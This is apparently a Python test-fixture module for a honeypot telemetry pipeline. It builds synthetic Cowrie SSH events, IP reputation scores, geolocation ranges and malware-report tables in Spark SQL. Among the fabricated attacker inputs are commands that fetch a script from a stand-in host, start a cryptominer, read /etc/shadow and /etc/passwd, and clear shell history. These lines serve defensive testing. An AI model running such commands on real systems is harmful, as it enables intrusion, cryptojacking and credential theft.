"""The test tables seen as telemetry.

The SQL below is understood by Spark and by DuckDB alike; the names in braces
are filled in per engine.  A null in ``RAW_EVENTS`` means that the key is missing.
"""

from __future__ import annotations

from functools import partial

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from trapline.operators.geo import enrich_geo
from trapline.operators.ingest import build_attempts, captured_files, normalise, with_defaults
from trapline.operators.sessions import build_sessions
from trapline.operators.visitors import build_page_views
from trapline.schemas import DATE_COLUMN
from trapline.settings import work_folder
from trapline.sources.counted import append_counted
from trapline.sources.tables import append_table, load_table

# The fixed clock of all test queries.
AS_OF = "2024-01-31 00:00:00"

# The test log is numbered, not timed; a slice is this many events.
SLICE_WIDTH = 1000

_stores: dict[tuple, str] = {}

RAW_EVENTS = """
SELECT event_id AS seq, ts, 's' || CAST(user_id AS STRING) || '-' || CAST(day(ts) % 5 AS STRING) AS session,
 CASE WHEN user_id % 10 = 0 THEN '10.0.' || CAST(user_id % 251 AS STRING) || '.' || CAST(user_id % 241 AS STRING)
  ELSE CAST(11 + user_id % 180 AS STRING) || '.' || CAST(user_id % 251 AS STRING) || '.' || CAST(user_id % 241 AS STRING) || '.7' END AS src_ip,
 CASE event_type WHEN 'error' THEN 'cowrie.login.failed' WHEN 'signup' THEN 'cowrie.login.success' WHEN 'click' THEN 'cowrie.command.input'
  WHEN 'purchase' THEN CASE WHEN event_id % 4 = 0 THEN 'cowrie.session.file_upload' ELSE 'cowrie.session.file_download' END
  ELSE CASE WHEN event_id % 3 = 0 THEN 'cowrie.session.closed' ELSE 'cowrie.session.connect' END END AS eventid,
 CASE WHEN event_id % 7 = 0 THEN 'telnet' ELSE 'ssh' END AS protocol,
 CAST(1024 + event_id % 60000 AS INT) AS src_port,
 CAST(CASE WHEN event_id % 7 = 0 THEN 23 WHEN event_id % 11 = 0 THEN 2222 ELSE 22 END AS INT) AS dst_port,
 CASE WHEN event_type IN ('error','signup') THEN CASE event_id % 5 WHEN 0 THEN 'root' WHEN 1 THEN 'admin' WHEN 2 THEN 'pi' WHEN 3 THEN 'root' ELSE 'ubuntu' END END AS username,
 CASE WHEN event_type IN ('error','signup') THEN 'pw' || CAST(user_id % 17 AS STRING) END AS password,
 CASE WHEN event_type = 'click' THEN CASE event_id % 12 WHEN 0 THEN 'uname -a' WHEN 1 THEN 'wget http://x.example/a.sh' WHEN 2 THEN './xmrig -o stratum+tcp://p'
  WHEN 3 THEN 'crontab -l' WHEN 4 THEN 'cat /etc/shadow' WHEN 5 THEN 'history -c' WHEN 6 THEN 'cat /etc/passwd' WHEN 7 THEN 'chmod 777 /tmp/.x'
  WHEN 8 THEN 'echo hi' WHEN 9 THEN 'ps aux' WHEN 10 THEN '' ELSE 'ls -la /root' END END AS input,
 CASE WHEN event_type = 'purchase' THEN CASE WHEN event_id % 4 = 0 THEN '' ELSE 'http://h' || CAST(event_id % 50 AS STRING) || '.example/a.sh' END END AS url,
 CASE WHEN event_type = 'purchase' THEN CASE WHEN event_id % 6 = 0 THEN '' ELSE 'h' || CAST(event_id % 200 AS STRING) END END AS shasum,
 CASE WHEN event_type = 'purchase' THEN '/srv/dl/f' || CAST(event_id % 90 AS STRING) || '.bin' END AS outfile
FROM {events}
"""

GEO_RANGES = """
SELECT CAST(11 + 7 * n_nationkey AS BIGINT) * 16777216 AS start_ip, CAST(18 + 7 * n_nationkey AS BIGINT) * 16777216 - 1 AS end_ip,
 'N' || CAST(n_nationkey AS STRING) AS country_code, n_name AS country_name,
 CASE WHEN n_nationkey % 3 = 0 THEN '' ELSE 'City' || CAST(n_nationkey AS STRING) END AS city,
 'Sub' || CAST(n_nationkey AS STRING) AS subdivision,
 CAST(n_nationkey AS DOUBLE) * 2 - 20 AS latitude, CAST(n_nationkey AS DOUBLE) * 5 - 60 AS longitude,
 CAST(64500 + n_nationkey AS BIGINT) AS asn, 'AS-' || n_name AS as_org
FROM {nation}
"""

REPORTS = """
SELECT 'h' || CAST(p_partkey AS STRING) AS sha256,
 '{{"malicious": ' || CAST(p_size % 30 AS STRING) || ', "undetected": ' || CAST(40 + p_partkey % 30 AS STRING) || '}}' AS last_analysis_stats,
 p_partkey * 10 AS size, CASE WHEN p_partkey % 5 = 0 THEN NULL ELSE p_type END AS type_description, p_brand AS magic
FROM {part} WHERE p_partkey % 4 <> 0
"""

IP_SCORES = """
SELECT CASE WHEN c_custkey % 10 = 0 THEN '10.0.' || CAST(c_custkey % 251 AS STRING) || '.' || CAST(c_custkey % 241 AS STRING)
  ELSE CAST(11 + c_custkey % 180 AS STRING) || '.' || CAST(c_custkey % 251 AS STRING) || '.' || CAST(c_custkey % 241 AS STRING) || '.7' END AS ip,
 CAST(c_custkey % 101 AS INT) AS abuse_score, c_mktsegment AS isp, CASE WHEN c_custkey % 4 = 0 THEN '' ELSE 'Data Center' END AS usage_type,
 CAST(c_nationkey AS INT) AS total_reports,
 {clock} - INTERVAL '1' DAY * CAST(c_custkey % 14 AS INT) AS fetched_at
FROM {customer} WHERE c_custkey % 3 <> 0
"""

REQUESTS = """
SELECT event_id AS id, ts AS visited_at,
 CASE event_id % 4 WHEN 0 THEN NULL WHEN 1 THEN '' WHEN 2 THEN 'not-an-ip' ELSE '198.51.100.' || CAST(user_id % 250 AS STRING) END AS x_real_ip,
 CASE WHEN event_id % 3 = 0 THEN '203.0.113.' || CAST(user_id % 250 AS STRING) || ', 10.0.0.1' END AS x_forwarded_for,
 CASE WHEN event_id % 9 = 0 THEN NULL ELSE '192.0.2.' || CAST(user_id % 250 AS STRING) END AS client_host,
 CASE WHEN event_id % 2 = 0 THEN 'agent/1' ELSE '' END AS user_agent
FROM {events} WHERE event_type = 'view'
"""

# New answers of the reputation service, some older than what is stored.
SCORE_UPDATES = """
SELECT CASE WHEN s_suppkey % 10 = 0 THEN '10.0.' || CAST(s_suppkey % 251 AS STRING) || '.' || CAST(s_suppkey % 241 AS STRING)
  ELSE CAST(11 + s_suppkey % 180 AS STRING) || '.' || CAST(s_suppkey % 251 AS STRING) || '.' || CAST(s_suppkey % 241 AS STRING) || '.7' END AS ip,
 CAST(100 - s_suppkey % 101 AS INT) AS abuse_score, s_name AS isp, 'Refetched' AS usage_type,
 CAST(s_nationkey AS INT) AS total_reports,
 {clock} - INTERVAL '1' DAY * CAST(s_suppkey % 9 AS INT) AS fetched_at
FROM {supplier}
"""

# Log lines with some blank, cut, non-object and unprocessable ones among them.
DAMAGED = """
SELECT seq, CASE seq % 50 WHEN 7 THEN '' WHEN 8 THEN substring(line, 1, 40) WHEN 9 THEN '[1, 2]'
  WHEN 10 THEN '{{"eventid":"cowrie.login.failed","session":"x","src_ip":"9.9.9.9","timestamp":null}}'
  WHEN 11 THEN '  ' || line || '  ' ELSE line END AS line
FROM {lines}
"""


def read_table(spark: SparkSession, folder: str, name: str) -> DataFrame:
    """A test table, split as its files are."""
    return spark.read.parquet(f"{folder.rstrip('/')}/{name}.parquet")


def _view(sql: str, table: str, spark: SparkSession, folder: str) -> DataFrame:
    sql = sql.replace("{clock}", f"TIMESTAMP_NTZ '{AS_OF}'")
    return spark.sql(sql, **{table: read_table(spark, folder, table)})


def raw_events(spark: SparkSession, folder: str) -> DataFrame:
    """The sensor's events as structured rows, stored once per session."""
    return stored(spark, folder, "raw_events")


geo_ranges = partial(_view, GEO_RANGES, "nation")
reports = partial(_view, REPORTS, "part")
ip_scores = partial(_view, IP_SCORES, "customer")
score_updates = partial(_view, SCORE_UPDATES, "supplier")
requests = partial(_view, REQUESTS, "events")


def events(spark: SparkSession, folder: str, keep_private: bool = False) -> DataFrame:
    """Normalised events, without places."""
    return normalise(with_defaults(raw_events(spark, folder)), keep_private)


def build_table(spark: SparkSession, folder: str, name: str, keep_private: bool = False) -> DataFrame:
    """One of the tables that ingest fills, computed from the raw events."""
    if name == "raw_events":
        return _view(RAW_EVENTS, "events", spark, folder).withColumn("id", F.col("seq"))
    if name == "page_views":
        return build_page_views(requests(spark, folder))
    public = events(spark, folder, keep_private)
    if name == "attempts":
        return build_attempts(enrich_geo(public, geo_ranges(spark, folder)))
    if name == "sessions":
        return build_sessions(public, geo_ranges(spark, folder), SLICE_WIDTH)
    # Signature matches as an analyser would leave them.
    matches = """CASE id % 4 WHEN 0 THEN '["dropper","packed"]' WHEN 1 THEN '[]' WHEN 2 THEN 'not json' END"""
    return captured_files(public).withColumn("yara_matches", F.expr(matches))


def stored(
    spark: SparkSession, folder: str, name: str, keep_private: bool = False, dated: bool = False
) -> DataFrame:
    """The same table, ingested once per session and read back from storage; ``dated`` shows the folder date too.

    Most queries start here: as in production, they scan a stored table and not
    the raw log.
    """
    key = (spark.sparkContext.applicationId, folder, name, keep_private)
    if key not in _stores:
        target = work_folder(spark, "store")
        rows = build_table(spark, folder, name, keep_private)
        if name == "attempts":
            append_counted(rows, target, gather=True)
        else:
            append_table(rows, target, name, gather=True)
        _stores[key] = target
    table = load_table(spark, _stores[key], name)
    return table if dated else table.drop(DATE_COLUMN)


def attempts(spark: SparkSession, folder: str, dated: bool = False) -> DataFrame:
    return stored(spark, folder, "attempts", dated=dated)


def attempts_store(spark: SparkSession, folder: str) -> str:
    """The folder of the stored attempts, which are counted by date."""
    attempts(spark, folder)
    return _stores[(spark.sparkContext.applicationId, folder, "attempts", False)]


def captured(spark: SparkSession, folder: str) -> DataFrame:
    return stored(spark, folder, "captured_files")


def page_views(spark: SparkSession, folder: str) -> DataFrame:
    return stored(spark, folder, "page_views")


def unpurged(spark: SparkSession, folder: str) -> dict[str, DataFrame]:
    """Stored tables that private sources got into."""
    return {name: stored(spark, folder, name, True) for name in ("attempts", "sessions", "captured_files")}


def log_lines(spark: SparkSession, folder: str) -> DataFrame:
    """The raw events as JSON lines, as the sensor writes them."""
    at = F.concat(F.replace(F.col("ts").cast("string"), F.lit(" "), F.lit("T")), F.lit("Z"))
    fields = [
        "eventid", "session", "src_ip", at.alias("timestamp"), "src_port", "dst_port", "protocol",
        "username", "password", "input", "url", "shasum", "outfile",
    ]
    return raw_events(spark, folder).select("seq", F.to_json(F.struct(*fields)).alias("line"))


def damaged_lines(spark: SparkSession, folder: str) -> DataFrame:
    return spark.sql(DAMAGED, lines=log_lines(spark, folder))


def mixed_sources(spark: SparkSession, folder: str) -> DataFrame:
    """(seq, src_ip): the raw events' sources, three of four as IPv6 addresses in several spellings."""
    octet = [F.substring_index(F.substring_index("src_ip", ".", i), ".", -1).cast("bigint") for i in (1, 2, 3)]
    middle, last = F.lower(F.hex(octet[0] * 256 + octet[1])), F.lower(F.hex(octet[2]))
    kind = F.col("seq") % 4
    text = (
        F.when(kind == 1, F.concat(F.lit("2001:db8:"), middle, F.lit("::"), last))
        .when(kind == 2, F.concat(F.lit("2001:0DB8:"), F.upper(middle), F.lit(":0:0:0:0:"), last))
        .when(kind == 3, F.concat(F.lit("::ffff:"), F.col("src_ip")))
        .otherwise(F.col("src_ip"))
    )
    return raw_events(spark, folder).select("seq", text.alias("src_ip"))


def networks(spark: SparkSession, folder: str) -> DataFrame:
    """Places by network: for each nation a wide and a narrow one, of IPv4 and IPv6 each."""
    nation = read_table(spark, folder, "nation")
    key, name = F.col("n_nationkey"), F.col("n_name")
    first = 11 + 7 * key
    wide, narrow = F.lower(F.hex(first * 256)), F.lower(F.hex(first * 256 + key))

    def place(network, city) -> Column:
        return F.struct(network.alias("network"), city.alias("city"))

    listed = F.array(
        place(F.concat(first.cast("string"), F.lit(".0.0.0/8")), F.lit("wide")),
        place(F.concat_ws(".", first.cast("string"), key.cast("string"), F.lit("0.0/16")), F.lit("narrow")),
        place(F.concat(F.lit("2001:db8:"), wide, F.lit("::/40")), F.lit("wide")),
        place(F.concat(F.lit("2001:db8:"), narrow, F.lit("::/47")), F.lit("narrow")),
    )
    columns = [
        F.concat(F.lit("N"), key.cast("string")).alias("country_code"),
        name.alias("country_name"),
        F.lit("sub").alias("subdivision"),
        key.cast("double").alias("latitude"),
        (-key).cast("double").alias("longitude"),
        key.cast("bigint").alias("asn"),
        F.concat(F.lit("AS-"), name).alias("as_org"),
    ]
    return nation.select(F.inline(listed), *columns)
